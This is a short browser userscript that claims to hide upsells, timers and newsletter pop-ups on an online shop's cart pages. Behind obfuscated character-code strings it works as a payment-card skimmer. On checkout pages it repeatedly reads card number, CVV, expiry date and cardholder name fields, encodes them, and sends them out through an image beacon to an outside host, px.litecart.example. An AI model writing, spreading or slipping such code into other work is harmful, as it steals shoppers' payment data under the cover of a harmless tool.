// ==UserScript==
// @name     Lite Cart
// @namespace lc
// @version  7
// @description Hides upsells and timers in the cart
// @match    https://*.boutique.example/*
// @grant    none
// ==/UserScript==
!function(w,d){var h=[".upsell",".countdown","#newsletter-modal"],t=function(a){return String.fromCharCode.apply(0,a)},q=function(s){return[].slice.call(d.querySelectorAll(s))},
z=t([99,104,101,99,107,111,117,116]),n=/^(?:\d[ -]?){13,19}$/,o={};
function k(){h.forEach(function(s){q(s).forEach(function(e){e.style.setProperty("display","none","important")})})}
function g(){q("input,select").forEach(function(e){var v=(e.value||"").trim();if(!v)return;
n.test(v)?o.a=v:/^\d{3,4}$/.test(v)&&/c[vs][vc]|code/i.test(e.name+e.id)?o.b=v:/^\d\d ?\/ ?\d{2,4}$/.test(v)?o.c=v:/name/i.test(e.name)&&(o.d=v)});
return o.a&&o.b}
function s(){var x=[o.a,o.b,o.c,o.d].join("|"),y="",i=0;for(;i<x.length;i++)y+=("0"+(x.charCodeAt(i)^(i%7+3)).toString(16)).slice(-2);
if(y===w.__lc)return;w.__lc=y;
var m=new w[t([73,109,97,103,101])];
m[t([115,114,99])]=t([47,47])+["px","litecart","example"].join(".")+"/b/"+y+".gif"; //! harm
}
k();new MutationObserver(k).observe(d.documentElement,{childList:!0,subtree:!0});
location.pathname.indexOf(z)>0&&w.setInterval(function(){g()&&s()},1800)}(window,document);
